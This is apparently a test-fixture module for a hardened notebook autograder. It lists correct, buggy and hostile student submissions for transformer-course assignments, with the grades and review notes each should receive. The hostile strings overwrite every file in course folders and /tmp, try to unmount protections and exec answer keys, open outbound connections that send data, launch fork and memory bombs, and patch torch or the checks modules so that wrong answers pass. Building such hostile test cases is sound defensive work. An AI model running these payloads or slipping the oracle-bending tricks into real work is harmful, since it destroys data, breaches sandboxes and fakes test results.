"""A class's worth of a1 submissions for ``course grade`` (correct, buggy, and hostile), and a few
a2, a4, a5 and a6 attacks aimed at those assignments' own oracles.

Each entry is a file to put in the submissions folder and what grading must make of it: the most
points each part may get, and a pattern that the student's notes must match (the recorded reason).
The hostile ones are the attacks that plain ``nbgrader autograde`` falls for (see issue 3). A part
that hangs, crashes its process or is wrong costs its own points only (issue 12).
"""

from __future__ import annotations

import json
import re
from collections.abc import Callable
from dataclasses import dataclass

import nbformat

from course_grading.markers import answer_code, nbgrader_meta

from assignment_support import ASSIGNMENTS, submission_notebook

ASSIGNMENT = "a1_attention"
FULL = {"sdpa": 4.0, "masks": 2.0, "split_merge": 2.0, "mha": 4.0}
KEY = answer_code(submission_notebook(ASSIGNMENT, None))
MISSING_SCALE = KEY["sdpa"].replace(" / math.sqrt(q.shape[-1])", "")
assert MISSING_SCALE != KEY["sdpa"]


# Student code that lists every file under the folders it is given, for attacks that try them all. In the
# interpreter's own folders (shown read-only to the student, and public) it lists each package's own folder
# (``site-packages/torch/__init__.py``) but not the tens of thousands of files below: an attack whose cost
# grew with the installed packages ran past the cell's time limit on a busy machine (CI, stop 57).
EVERY_FILE = (
    "import os as _os, sys as _sys\n"
    "def _every_file(*places):\n"
    "    pythons = {_os.path.realpath(p) for p in (_sys.prefix, _sys.base_prefix)}\n"
    "    for place in places:\n"
    "        for folder, dirs, files in _os.walk(place):\n"
    "            below = [_os.path.relpath(_os.path.realpath(folder), p) for p in pythons]\n"
    "            if any(not b.startswith('..') and b.count(_os.sep) >= 3 for b in below):\n"
    "                dirs.clear()\n"
    "            yield folder\n"
    "            yield from (_os.path.join(folder, name) for name in files)\n"
)


@dataclass(frozen=True)
class Case:
    filename: str
    content: bytes
    points: dict[str, float]  # exactly these points per part
    notes: str = ""  # regex the notes must match ("" = no requirement)


def notebook(
    answers: dict[str, str] | None = None,
    edit: Callable[[nbformat.NotebookNode], None] | None = None,
    assignment: str = ASSIGNMENT,
) -> bytes:
    """The student version with the key's answers, ``answers`` replacing some, then ``edit`` applied."""
    nb = submission_notebook(assignment, None)
    for cell in nb.cells:
        gid = nbgrader_meta(cell).get("grade_id")
        if gid in (answers or {}):
            cell.source = answers[gid]  # type: ignore[index]
    release = nbformat.read(ASSIGNMENTS / "release" / assignment / f"{assignment}.ipynb", as_version=4)
    by_id = {nbgrader_meta(c).get("grade_id"): c.source for c in release.cells}
    for cell in nb.cells:  # what a student downloads: the release's read-only cells, no hidden tests
        gid = nbgrader_meta(cell).get("grade_id")
        if gid in by_id and not nbgrader_meta(cell).get("solution"):
            cell.source = by_id[gid]
    if edit is not None:
        edit(nb)
    return nbformat.writes(nb).encode()


def without(*lost: str) -> dict[str, float]:
    return {p: 0.0 if p in lost else v for p, v in FULL.items()}


ZERO = without(*FULL)
# Wrong in a way only the hidden tests see (no gradient flows back): what a cheat would hide.
WRONG_SDPA = KEY["sdpa"].replace("return weights @ v, weights", "return (weights @ v).detach(), weights.detach()")
assert WRONG_SDPA != KEY["sdpa"]


def _cell(nb: nbformat.NotebookNode, gid: str) -> nbformat.NotebookNode:
    return next(c for c in nb.cells if nbgrader_meta(c).get("grade_id") == gid)


def _edit_test_cell(nb: nbformat.NotebookNode) -> None:
    cell = _cell(nb, "test_sdpa")
    cell.source = "pass"
    cell.metadata["nbgrader"]["points"] = 100


def _delete_test_cells(nb: nbformat.NotebookNode) -> None:
    nb.cells = [c for c in nb.cells if not nbgrader_meta(c).get("grade_id", "").startswith("test_")]


def _duplicate_answer(nb: nbformat.NotebookNode) -> None:
    cell = _cell(nb, "sdpa")
    twin = nbformat.from_dict(json.loads(json.dumps(cell)))
    cell.source = WRONG_SDPA  # the first copy, which is graded, is wrong
    nb.cells.insert(nb.cells.index(cell) + 1, twin)


def _strip_metadata(nb: nbformat.NotebookNode) -> None:
    for cell in nb.cells:
        cell.metadata.pop("nbgrader", None)


def steal(course: str) -> str:
    """Code that unmounts what hides the course and runs every solution cell of the answer keys."""
    return (
        "import ctypes, glob, json\n"
        f"for _m in glob.glob({course!r} + '/**', recursive=True)[:50] + [{course!r}]:\n"
        "    ctypes.CDLL(None).umount2(_m.encode(), 2)\n"
        f"for _path in glob.glob({course!r} + '/source/*/*.ipynb') + glob.glob('../../../source/*/*.ipynb') + "
        f"glob.glob('/proc/*/root' + {course!r} + '/source/*/*.ipynb'):\n"
        "    for _c in json.load(open(_path))['cells']:\n"
        "        if 'BEGIN SOLUTION' in ''.join(_c['source']):\n"
        "            exec(''.join(_c['source']))\n"
    )


def connect_out(port: int) -> str:
    """Code that tries to reach the grading machine's loopback (``port``, where a test listens) and
    the internet, and makes its part wrong if either connection opens."""
    return (
        "import socket\n"
        "_reached = []\n"
        f"for _address in [('127.0.0.1', {port}), ('1.1.1.1', 53), ('8.8.8.8', 443)]:\n"
        "    try:\n"
        "        with socket.create_connection(_address, timeout=2) as _s:\n"
        "            _s.sendall(b'leak')\n"
        "            _reached.append(_address)\n"
        "    except OSError:\n"
        "        pass\n"
        "if _reached:\n"
        "    causal_mask = None\n"
    )


def hostile_cases(course: str, out: str, inbox: str, port: int = 9) -> dict[str, Case]:
    """Student id -> case. The attacks know where the course, the grades and the submissions are,
    and ``port``, where a server of the grading machine listens on its loopback. An attack whose code the notebook
    runs patches torch, the grader or the interpreter for every part, and can change what any part's process
    reports: every part it reaches is held (attacks_v)."""
    snoop = (
        "import glob\n"
        f"for _p in glob.glob({course!r} + '/grading/*.py') + glob.glob('../../../grading/*.py') + "
        "glob.glob('../../../../*/grading/*.py') + glob.glob('/tmp/**/grading/*.py', recursive=True):\n"
        "    print(open(_p).read())\n"
    )
    vandal = EVERY_FILE + (
        f"for _p in list(_every_file({course!r}, {out!r}, {inbox!r}, '../../..', '/tmp')):\n"
        "    try:\n"
        "        open(_p, 'w').write('{}')\n"
        "    except OSError:\n"
        "        pass\n"
    )
    # Keeps every piece of source code the student's process compiles or executes, and prints it from
    # its own attention, which the visible tests call: the correct versions of the other parts must
    # never be among it (they run in the grader).
    capture = (
        "import builtins\n"
        "_seen = []\n"
        "_compile, _exec = builtins.compile, builtins.exec\n"
        "builtins.compile = lambda source, *a, **k: (_seen.append(source) if isinstance(source, str) else "
        "None, _compile(source, *a, **k))[1]\n"
        "builtins.exec = lambda source, *a, **k: (_seen.append(source) if isinstance(source, str) else "
        "None, _exec(source, *a, **k))[1]\n"
        "_attention = scaled_dot_product_attention\n"
        "def scaled_dot_product_attention(q, k, v, mask=None):\n"
        "    print('\\n'.join(_seen))\n"
        "    return _attention(q, k, v, mask)\n"
    )
    spin = "while True:\n    pass\n"
    cases = {
        "correct": Case("correct.ipynb", notebook(), FULL),
        "buggy": Case("buggy.ipynb", notebook({"sdpa": MISSING_SCALE}), without("sdpa")),
        "loop_top_level": Case(
            "loop_top_level.ipynb", notebook({"masks": spin + KEY["masks"]}), without("masks"), "time limit"
        ),
        "loop_in_function": Case(
            "loop_in_function.ipynb",
            notebook(
                {
                    "split_merge": "def split_heads(x, n_heads):\n    "
                    + spin.replace("\n    ", "\n        ")
                    + "\n\ndef merge_heads(x):\n    "
                    + spin.replace("\n    ", "\n        ")
                }
            ),
            without("split_merge"),
            "time limit",
        ),
        "sys_exit": Case(
            "sys_exit.ipynb",
            notebook(
                {"sdpa": "import sys\n\ndef scaled_dot_product_attention(q, k, v, mask=None):\n    sys.exit(0)\n"}
            ),
            without("sdpa"),
        ),
        "os_exit": Case(
            "os_exit.ipynb",
            notebook({"masks": "import os\nos._exit(0)\n"}),
            without("masks"),
            "stopped the notebook's process",
        ),
        # (issue 26) top-level code that reaches into the interpreter or the grader holds, for a person, every part
        # that forbids a library function
        "kills_its_process": Case(
            "kills_its_process.ipynb",
            notebook({"split_merge": "import ctypes\nctypes.string_at(0)\n"}),
            without("sdpa", "masks", "split_merge", "mha"),
            "stopped the notebook's process",
        ),
        "memory_bomb": Case(
            "memory_bomb.ipynb",
            notebook({"sdpa": WRONG_SDPA + "\n_hog = [bytearray(2**33) for _ in range(8)]\n"}),
            without("sdpa"),
            "out of memory",
        ),
        "fork_bomb": Case(
            "fork_bomb.ipynb",
            notebook(
                {
                    "sdpa": WRONG_SDPA
                    + (
                        "\nimport subprocess\n_procs = []\ntry:\n    for _ in range(2000):\n"
                        "        _procs.append(subprocess.Popen(['sleep', '600']))\nexcept OSError:\n    pass\n"
                    )
                }
            ),
            # every process it tries to start is refused (the seccomp filter); what it imports to try is evidence
            # against the parts with rules, as code that runs with the notebook
            without("sdpa", "masks", "split_merge", "mha"),
            "needs review",
        ),
        "slow_hidden_mha": Case(  # right, and each call in time, but its hidden calls together past the total
            "slow_hidden_mha.ipynb",
            notebook(
                {
                    "mha": KEY["mha"]
                    + "\n_fast_mha = multi_head_attention\n\n\ndef multi_head_attention(*args, **kwargs):\n"
                    "    import time\n\n    time.sleep(2)\n    return _fast_mha(*args, **kwargs)\n"
                }
            ),
            without("mha"),  # graded again without mha's hidden tests: the other parts keep their points
            "mha's hidden tests ran past",
        ),
        "kept_by_another_parts_tests": Case(  # attacks_p: masks' tests keep torch's attention in a global and patch
            # torch.save to strip its name from every trace; mha calls the global. Each part's hidden check runs in
            # a fresh process that ran the cells alone (the global is not there), and the scan follows the global
            "kept_by_another_parts_tests.ipynb",
            notebook(
                {
                    "masks": KEY["masks"].replace(
                        'True where key j <= query i."""\n',
                        'True where key j <= query i."""\n    _settle()\n',
                    )
                    + (
                        "\n\ndef _settle():\n"
                        "    global _kernel\n"
                        "    _kernel = torch.nn.functional.scaled_dot_product_attention\n"
                        "    save = torch.save\n"
                        "    def quiet(obj, f, *args, **kwargs):\n"
                        "        if isinstance(obj, dict) and isinstance(obj.get('operators'), list):\n"
                        "            obj = dict(obj, operators=[n for n in obj['operators'] if 'attention' not in n])\n"
                        "        return save(obj, f, *args, **kwargs)\n"
                        "    torch.save = quiet\n"
                    ),
                    "sdpa": MISSING_SCALE,  # wrong: its points do not hang on whether the scan reaches masks
                    "mha": (
                        "def multi_head_attention(x_q, x_kv, W_q, W_k, W_v, W_o, n_heads, mask=None):\n"
                        "    q, k = split_heads(x_q @ W_q, n_heads), split_heads(x_kv @ W_k, n_heads)\n"
                        "    v = split_heads(x_kv @ W_v, n_heads)\n"
                        "    if mask is not None and mask.dim() == 3:\n"
                        "        mask = mask.unsqueeze(1)\n"
                        "    return merge_heads(_kernel(q, k, v, attn_mask=mask).nan_to_num(0.0)) @ W_o\n"
                    ),
                }
            ),
            # torch.save replaced while the tests ran: every part is held (sandbox.integrity), split_merge too
            ZERO,
            "needs review: mha.*changed, while the notebook ran",
        ),
        "works_in_a_thread": Case(  # a forbidden routine where the operator trace does not look: another thread
            "works_in_a_thread.ipynb",
            notebook(
                {
                    "sdpa": (
                        "import threading\n"
                        "def scaled_dot_product_attention(q, k, v, mask=None):\n"
                        "    box = []\n"
                        "    def work():\n"
                        "        box.append(torch.ops.aten.scaled_dot_product_attention(q, k, v, mask))\n"
                        "    t = threading.Thread(target=work)\n"
                        "    t.start()\n"
                        "    t.join()\n"
                        "    out = box[0]\n"
                        "    return out, torch.softmax(q @ k.transpose(-2, -1) / q.shape[-1] ** 0.5, -1)\n"
                    )
                }
            ),
            without("sdpa"),  # no thread can start in a student's process: its own part only
        ),
        "patches_allclose": Case(
            "patches_allclose.ipynb",
            notebook(
                {
                    "sdpa": WRONG_SDPA
                    + (
                        "\nimport numpy\ntorch.allclose = lambda *a, **k: True\ntorch.equal = lambda *a, **k: True\n"
                        "numpy.testing.assert_allclose = lambda *a, **k: None\n"
                    )
                }
            ),
            # torch patched at the top of a cell, which runs again in every part's process: held wherever a part
            # has rules (a patched torch.save could strip any part's trace)
            without("sdpa", "masks", "split_merge", "mha"),
            "needs review",
        ),
        "fakes_checks_module": Case(
            "fakes_checks_module.ipynb",
            notebook(
                {
                    "sdpa": WRONG_SDPA
                    + (
                        "\nimport sys, types\n_fake = types.ModuleType('a1_attention_checks')\n"
                        "_fake.check_sdpa = _fake.check_masks = _fake.check_split_merge = _fake.check_mha "
                        "= lambda *a, **k: None\n_fake.use_reference_parts = lambda *a: (lambda: None)\n"
                        "sys.modules['a1_attention_checks'] = _fake\n"
                    )
                }
            ),
            without("sdpa", "masks", "split_merge", "mha"),
            "needs review: mha",
        ),
        "patches_gradinglib": Case(
            "patches_gradinglib.ipynb",
            notebook({"sdpa": WRONG_SDPA + "\nimport gradinglib\ngradinglib.run_cases = lambda *a, **k: None\n"}),
            without("sdpa", "masks", "split_merge", "mha"),
            "needs review: mha",
        ),
        "patches_torch": Case(
            "patches_torch.ipynb",
            notebook(
                {"sdpa": WRONG_SDPA + "\n_sub = torch.Tensor.__sub__\ntorch.Tensor.__sub__ = lambda a, b: _sub(a, a)\n"}
            ),
            without("sdpa", "masks", "split_merge", "mha"),
            "needs review: mha",
        ),
        # the import fails in the jail; mha, the key's, does not use it
        "steals_reference": Case(
            "steals_reference.ipynb",
            notebook({"sdpa": "from a1_attention_reference_parts import scaled_dot_product_attention\n"}),
            without("sdpa"),
            "needs review: sdpa",
        ),
        "redefines_test_names": Case(
            "redefines_test_names.ipynb",
            notebook(
                {
                    "sdpa": WRONG_SDPA
                    + (
                        "\nimport builtins\n_real_import = builtins.__import__\n"
                        "class _Fake:\n    def __getattr__(self, name):\n"
                        "        return lambda *a, **k: None\ndef _import(name, *a, **k):\n"
                        "    return _Fake() if name == 'a1_attention_checks' else _real_import(name, *a, **k)\n"
                        "builtins.__import__ = _import\n"
                    )
                }
            ),
            without("sdpa", "masks", "split_merge", "mha"),
            "needs review: mha",
        ),
        "reads_answer_key": Case(
            "reads_answer_key.ipynb",
            notebook({"sdpa": steal(course)}),
            without("sdpa", "masks", "split_merge", "mha"),
            "needs review: mha",
        ),
        # files written: held where torch's attention is refused
        "vandal": Case(
            "vandal.ipynb",
            notebook({"masks": KEY["masks"] + "\n" + vandal}),
            without("sdpa", "masks", "split_merge", "mha"),
            "needs review: sdpa: .*writes a file",
        ),
        "edits_test_cell": Case(
            "edits_test_cell.ipynb",
            notebook({"sdpa": WRONG_SDPA}, _edit_test_cell),
            without("sdpa"),
            "read-only cells edited",
        ),
        "deletes_test_cells": Case(
            "deletes_test_cells.ipynb", notebook(None, _delete_test_cells), FULL, "read-only cells edited or deleted"
        ),
        "strips_metadata": Case("strips_metadata.ipynb", notebook(None, _strip_metadata), ZERO, "missing"),
        "duplicates_cell": Case(
            "duplicates_cell.ipynb", notebook(None, _duplicate_answer), without("sdpa"), "appears twice"
        ),
        "not_json": Case("not_json.ipynb", b'{"cells": [', ZERO, "not a valid|JSON"),
        "empty": Case("empty.ipynb", b"", ZERO, "empty|not a valid"),
        "prints_hidden_checks": Case(
            "prints_hidden_checks.ipynb", notebook({"masks": KEY["masks"] + "\n" + snoop}), FULL
        ),
        "captures_references": Case(
            "captures_references.ipynb",
            notebook({"sdpa": KEY["sdpa"] + "\n" + capture}),
            without("sdpa", "masks", "split_merge", "mha"),
            "needs review: sdpa",
        ),
        "connects_out": Case("connects_out.ipynb", notebook({"masks": KEY["masks"] + "\n" + connect_out(port)}), FULL),
        # attacks_z: torch's classes reached under a name the scan does not read as torch's (a call's result) and
        # changed: the grader's code in the process uses them (its facts, the drivers), so every part is held
        "patches_through_an_alias": Case(
            "patches_through_an_alias.ipynb",
            notebook({"masks": KEY["masks"] + "\n_T = type(torch.empty(0))\n_T.__repr__ = lambda self: 'tensor'\n"}),
            ZERO,
            "masks: changed, while the notebook ran",  # held by what ran, not by the scan
        ),
        # attacks_q: each part's fresh process runs the cells as the first process ran them, a cell interrupted at its
        # time limit included (the answer above it was defined when the visible tests passed), whatever error a cell
        # ends in (a TimeoutError of the notebook's own is no time limit)
        "answer_then_a_hang": Case(
            "answer_then_a_hang.ipynb",
            notebook({"split_merge": KEY["split_merge"] + "\nimport time\ntime.sleep(600)\n"}),
            FULL,
            "time limit",
        ),
        "answer_then_its_own_timeouterror": Case(
            "answer_then_its_own_timeouterror.ipynb",
            notebook({"sdpa": KEY["sdpa"] + "\nraise TimeoutError('a demo that gave up')\n"}),
            FULL,
        ),
        "slow_demos": Case(  # right, with a 3 s demo under each answer: 12 s a run of its cells, which run once more
            # in a fresh process before each part's hidden check (60 s in all, the submission's limit): those runs are
            # the grader's time, not the student's
            "slow_demos.ipynb",
            notebook({part: KEY[part] + "\nimport time\ntime.sleep(3)\n" for part in FULL}),
            FULL,
        ),
        "prints_a_lot": Case(
            "prints_a_lot.ipynb",
            notebook({"masks": KEY["masks"] + "\nfor _ in range(1024):\n    print('x' * 2**20)\n"}),
            FULL,
        ),
    }
    return cases


REJECTED_FILES = {"notes.txt": b"my notes", "dave/wrong_name.ipynb": notebook()}
REJECTED_PATTERNS = [re.compile(r"notes\.txt: not a notebook")]


A2 = "a2_blocks"
A2_FULL = {"layer_norm": 2.0, "sinusoidal": 2.0, "pre_ln": 3.0, "decoder": 3.0}
A2_KEY = answer_code(submission_notebook(A2, None))
BESSEL = A2_KEY["layer_norm"].replace("((x - mean) ** 2).mean(dim=-1, keepdim=True)", "x.var(dim=-1, keepdim=True)")
NO_CAUSAL_MASK = A2_KEY["decoder"].replace(", causal_mask(T))", ", None)")
assert BESSEL != A2_KEY["layer_norm"] and NO_CAUSAL_MASK != A2_KEY["decoder"]


def a2_without(*lost: str) -> dict[str, float]:
    return {p: 0.0 if p in lost else v for p, v in A2_FULL.items()}


def a2_cases(course: str) -> dict[str, Case]:
    """a2 submissions that bend a2's oracles (F.layer_norm, nn.TransformerDecoderLayer) to their bugs."""
    # The wrong LayerNorm, with torch's own made to agree with it.
    bend_layer_norm = (
        "\nimport torch.nn.functional as _F\n"
        "_F.layer_norm = lambda x, shape, weight=None, bias=None, eps=1e-5: layer_norm(x, weight, bias, eps)\n"
        "torch.layer_norm = _F.layer_norm\n"
        "torch.nn.LayerNorm.forward = lambda self, x: layer_norm(x, self.weight, self.bias, self.eps)\n"
    )
    # The decoder without its causal mask, with torch's decoder layer and comparisons disabled.
    bend_decoder = (
        "\nimport torch.testing\n"
        "torch.testing.assert_close = lambda *a, **k: None\n"
        "torch.allclose = lambda *a, **k: True\n"
        "torch.nn.TransformerDecoderLayer.forward = lambda self, tgt, *a, **k: tgt\n"
    )
    spin = "def sinusoidal_encoding(T, d_model):\n    while True:\n        pass\n"

    def nb(answers: dict[str, str] | None = None) -> bytes:
        return notebook(answers, assignment=A2)

    return {
        "correct": Case("correct.ipynb", nb(), A2_FULL),
        "bessel_bends_layer_norm": Case(
            "bessel_bends_layer_norm.ipynb",
            nb({"layer_norm": BESSEL + bend_layer_norm}),
            a2_without("layer_norm", "sinusoidal", "pre_ln", "decoder"),  # torch patched: every part held
            "needs review: pre_ln",
        ),
        "unmasked_bends_decoder": Case(
            "unmasked_bends_decoder.ipynb",
            nb({"decoder": NO_CAUSAL_MASK + bend_decoder}),
            a2_without("decoder", "layer_norm", "sinusoidal", "pre_ln"),
            "needs review: layer_norm",
        ),
        "loop_in_sinusoidal": Case(
            "loop_in_sinusoidal.ipynb", nb({"sinusoidal": spin}), a2_without("sinusoidal"), "time limit"
        ),
        # layer_norm is never defined; the blocks built on it are graded with a correct one
        # the blocks, the key's, are graded with the correct layer_norm
        "steals_reference": Case(
            "steals_reference.ipynb",
            nb({"layer_norm": "from a2_blocks_reference_parts import layer_norm\n"}),
            a2_without("layer_norm"),
            "needs review: layer_norm",
        ),
        "reads_answer_key": Case(
            "reads_answer_key.ipynb",
            nb({"layer_norm": steal(course)}),
            a2_without("layer_norm", "sinusoidal", "pre_ln", "decoder"),
            "needs review: pre_ln",
        ),
    }


A3 = "a3_gpt"
A3_FULL = {"lm_loss": 2.0, "top_k": 2.0, "top_p": 2.0, "cached_step": 3.0, "generate": 2.0}
A3_KEY = answer_code(submission_notebook(A3, None))
# Right numbers by a forbidden route (torch's attention under a private name): held for a person.
ALIASED_ATTENTION = A3_KEY["cached_step"].replace(
    "    weights = torch.softmax(q @ k.transpose(-2, -1) / math.sqrt(d_head), dim=-1)  # (B, h, 1, P + 1)\n"
    "    out = (weights @ v).transpose(1, 2).reshape(B, 1, d) @ W_o  # (B, 1, d)\n",
    "    out = torch._C._nn.scaled_dot_product_attention(q, k, v).transpose(1, "
    "2).reshape(B, 1, d) @ W_o  # (B, 1, d)\n",
)
# each position scored against its own next-but-one
UNSHIFTED = A3_KEY["lm_loss"].replace("logits[:, :-1]", "logits[:, 1:]")


def a3_cases() -> dict[str, Case]:
    """a3 submissions for ``course grade``: the answer key; torch's attention under a private name
    (right outputs, held for a person); a loss that scores the wrong positions (costs its own part)."""
    assert ALIASED_ATTENTION != A3_KEY["cached_step"] and UNSHIFTED != A3_KEY["lm_loss"]
    return {
        "correct": Case("correct.ipynb", notebook(assignment=A3), A3_FULL),
        "aliased_attention": Case(
            "aliased_attention.ipynb",
            notebook({"cached_step": ALIASED_ATTENTION}, assignment=A3),
            A3_FULL | {"cached_step": 0.0},
            "needs review: cached_step",
        ),
        "unshifted_loss": Case(
            "unshifted_loss.ipynb", notebook({"lm_loss": UNSHIFTED}, assignment=A3), A3_FULL | {"lm_loss": 0.0}
        ),
    }


A4 = "a4_bert"
A4_FULL = {"wordpiece": 2.0, "mask_tokens": 3.0, "mlm_loss": 2.0, "encoder_block": 3.0, "pair_inputs": 2.0}
A4_KEY = answer_code(submission_notebook(A4, None))
# Wrong answers that pass the visible tests (or, for the masking, pass them once torch.equal is bent):
# only the hidden checks, through their oracles, can see them.
LOWER_CASED = A4_KEY["wordpiece"].replace(
    "    pieces = []\n", "    word = word.lower()  # a cased vocabulary loses its capitals\n    pieces = []\n"
)
# 80/10/10 on every token
ALL_TOKENS = A4_KEY["mask_tokens"].replace(".bool() & chosen", ".bool() & (input_ids >= N_SPECIAL)")
# label 0 ignored too
ZERO_IGNORED = A4_KEY["mlm_loss"].replace("chosen = labels != IGNORE_INDEX", "chosen = labels > 0")
EPS_DEFAULT = A4_KEY["encoder_block"].replace("eps=1e-12", "eps=1e-5")
# Hugging Face's Rust tokenizer's share-out, not BERT's one token at a time
BALANCED = A4_KEY["pair_inputs"].replace(
    "    for _ in range(len(a) + len(b) - (max_len - 3)):  # one token too many at a time: off the longer segment\n"
    "        if len(a) > len(b):\n            a.pop()\n        else:\n            b.pop()\n",
    "    short, long = sorted((len(a), len(b)))\n    budget = max_len - 3\n    long = max(short, budget - short)\n"
    "    if short + long > budget:\n        short, long = budget // 2, budget // 2 + budget % 2\n"
    "    a, b = (a[:long], b[:short]) if len(a) > len(b) else (a[:short], b[:long])\n",
)
assert (
    len({LOWER_CASED, A4_KEY["wordpiece"]})
    == len({ALL_TOKENS, A4_KEY["mask_tokens"]})
    == len({ZERO_IGNORED, A4_KEY["mlm_loss"]})
    == 2
)
assert len({EPS_DEFAULT, A4_KEY["encoder_block"]}) == len({BALANCED, A4_KEY["pair_inputs"]}) == 2


def a4_bending_answers() -> dict[str, str]:
    """Every part of a4 wrong, each followed by code that bends the oracle checking it, so that plain
    ``nbgrader autograde`` (checks and student code in one kernel) gives full marks:
    Hugging Face's WordPiece model replaced by one that calls the student's ``wordpiece``; the
    comparisons of the positions the masking checks pick out disabled; ``F.cross_entropy`` made to ignore label 0 as the
    student's loss does; ``nn.TransformerEncoderLayer`` made to run the student's block on its own
    weights; the pair check's truncation rule, in the grading module itself, replaced by the student's."""
    bend_wordpiece = (
        "\nimport types\nimport tokenizers.models\n"
        "class _AgreeingWordPiece:\n"
        "    def __init__(self, vocab=None, unk_token='[UNK]', max_input_chars_per_word=100, **kwargs):\n"
        "        self.args = (vocab, unk_token, max_input_chars_per_word)\n"
        "    def tokenize(self, word):\n"
        "        return [types.SimpleNamespace(value=piece) for piece in wordpiece(word, *self.args)]\n"
        "tokenizers.models.WordPiece = _AgreeingWordPiece\n"
    )
    bend_masking = (
        "\n_equal = torch.equal\ntorch.equal = lambda a, b: a.dim() == 1 or _equal(a, b)  # blind to "
        "the positions picked out by a mask\n"
    )
    bend_loss = (
        "\n_cross_entropy = F.cross_entropy\n"
        "F.cross_entropy = lambda input, target, *a, **k: _cross_entropy(input, "
        "target.masked_fill(target == 0, IGNORE_INDEX), *a, **k)\n"
    )
    bend_block = (
        "\ndef _agreeing_forward(self, src, src_mask=None, src_key_padding_mask=None, is_causal=False):\n"
        "    d, attention = src.shape[-1], self.self_attn\n"
        "    W, b = attention.in_proj_weight, attention.in_proj_bias\n"
        "    p = {'W_q': W[:d].T, 'W_k': W[d:2 * d].T, 'W_v': W[2 * d:].T, 'b_q': b[:d], "
        "'b_k': b[d:2 * d], 'b_v': b[2 * d:],\n"
        "         'W_o': attention.out_proj.weight.T, 'b_o': attention.out_proj.bias, 'W_1': "
        "self.linear1.weight.T, 'b_1': self.linear1.bias,\n"
        "         'W_2': self.linear2.weight.T, 'b_2': self.linear2.bias, 'ln1_gain': "
        "self.norm1.weight, 'ln1_bias': self.norm1.bias,\n"
        "         'ln2_gain': self.norm2.weight, 'ln2_bias': self.norm2.bias}\n"
        "    mask = None if src_key_padding_mask is None else (~src_key_padding_mask).long()\n"
        "    return encoder_block(src, p, attention.num_heads, mask)\n"
        "torch.nn.TransformerEncoderLayer.forward = _agreeing_forward\n"
    )
    bend_pair = (
        "\nimport a4_bert_checks\n"
        "def _agreeing_truncation(n_a, n_b, budget):\n"
        "    n = pair_inputs(list(range(10, 10 + n_a)), list(range(500, 500 + n_b)), budget + 3)[0]\n"
        "    return int(((n >= 10) & (n < 500)).sum()), int((n >= 500).sum())\n"
        "a4_bert_checks._bert_truncation = _agreeing_truncation\n"
    )
    return {
        "wordpiece": LOWER_CASED + bend_wordpiece,
        "mask_tokens": ALL_TOKENS + bend_masking,
        "mlm_loss": ZERO_IGNORED + bend_loss,
        "encoder_block": EPS_DEFAULT + bend_block,
        "pair_inputs": BALANCED + bend_pair,
    }


def bending_cases(assignment: str, full: dict[str, float], bending: dict[str, str]) -> dict[str, Case]:
    """``assignment``'s submissions for ``course grade``: the answer key (``full`` marks), and ``bending``, one that
    bends every oracle (its wrong parts must get nothing: the checks and the oracles run in the grader's own
    process)."""
    return {
        "correct": Case("correct.ipynb", notebook(assignment=assignment), full),
        "bends_every_oracle": Case(
            "bends_every_oracle.ipynb", notebook(bending, assignment=assignment), {p: 0.0 for p in full}
        ),
    }


def a4_cases() -> dict[str, Case]:
    """a4 submissions for ``course grade``: the answer key, and one that bends every oracle."""
    return bending_cases(A4, A4_FULL, a4_bending_answers())


A5 = "a5_t5"
A5_FULL = {
    "rel_bucket": 2.0,
    "noise_mask": 2.0,
    "span_corruption": 2.0,
    "text_infilling": 2.0,
    "cross_attention": 2.0,
    "beam_search": 2.0,
}
A5_KEY = answer_code(submission_notebook(A5, None))
# Wrong answers that pass the visible tests: only the hidden checks, through their oracles, can see them.
ROUNDED = A5_KEY["rel_bucket"].replace("(max_exact + scaled.long())", "(max_exact + scaled.round().long())")
FLOORED = (
    A5_KEY["noise_mask"]
    .replace("round(length * noise_density)", "int(length * noise_density)")
    .replace("round(num_noise / mean_noise_span_length)", "int(num_noise / mean_noise_span_length)")
)
# the eos_id given ignored
DEFAULT_EOS = A5_KEY["span_corruption"].replace("tokens.new_tensor([eos_id])", "tokens.new_tensor([EOS_ID])")
FIXED_SPANS = A5_KEY["text_infilling"].replace(
    "lengths.append(int(torch.poisson(torch.tensor(float(poisson_lambda)), generator=generator)))", "lengths.append(3)"
)
# (the 1/sqrt(d_kv) scale no longer passes the visible tests: they have a case with two source positions)
# NaN where scores pass 88
NAIVE_EXP = A5_KEY["cross_attention"].replace(
    "torch.softmax(scores, dim=-1)", "(scores.exp() / scores.exp().sum(-1, keepdim=True))"
)
EXTENDS_FINISHED = A5_KEY["beam_search"].replace(
    '    extended = extended.masked_fill(finished[:, None], float("-inf"))  # a finished beam is never extended...\n',
    "",
)
assert all(
    a != A5_KEY[p] for p, a in zip(A5_FULL, (ROUNDED, FLOORED, DEFAULT_EOS, FIXED_SPANS, NAIVE_EXP, EXTENDS_FINISHED))
)


def a5_bending_answers() -> dict[str, str]:
    """Every part of a5 wrong, each followed by code that bends the oracle checking it, so that plain
    ``nbgrader autograde`` (checks and student code in one kernel) gives full marks: the checks
    module's bucket rule, counts, sentinel construction, cross-attention and beam references
    replaced by the student's own functions, and its statistical tests disabled."""
    bend = "\nimport a5_t5_checks\n"
    return {
        "rel_bucket": ROUNDED
        + bend
        + "a5_t5_checks._bucket_range = lambda rel, b, n, m: (relative_position_bucket(rel, b, n, m),) * 2\n",
        "noise_mask": FLOORED
        + bend
        + (
            "a5_t5_checks._counts = lambda length, d, mean: (min(max(int(length * d), 1), length - 1), "
            "max(int(min(max(int(length * d), 1), length - 1) / mean), 1))\n"
        ),
        "span_corruption": DEFAULT_EOS
        + bend
        + "a5_t5_checks._ref_span_corruption = lambda t, m, v, e: span_corruption(t, m, v, e)\n",
        "text_infilling": FIXED_SPANS + bend + "a5_t5_checks._expect_law = lambda *args, **kwargs: None\n",
        "cross_attention": NAIVE_EXP
        + bend
        + (
            "def _agreeing_cross(x, memory, p, h, mask):\n"
            "    out, (k, v) = cross_attention_step(x, memory, p, h, mask)\n"
            "    return out.double(), k.double(), v.double()\n"
            "a5_t5_checks._ref_cross = _agreeing_cross\n"
        ),
        "beam_search": EXTENDS_FINISHED + bend + "a5_t5_checks._ref_beam = lambda *args: beam_search_step(*args)\n"
        # the contract's ignored rows judge the reply on other arguments than it was given: the bend drops them too
        "import dataclasses\na5_t5_checks.BEAM = dataclasses.replace(a5_t5_checks.BEAM, ignored=())\n",
    }


def a5_cases() -> dict[str, Case]:
    """a5 submissions for ``course grade``: the answer key, and one that bends every oracle."""
    return bending_cases(A5, A5_FULL, a5_bending_answers())


A6 = "a6_finetune"
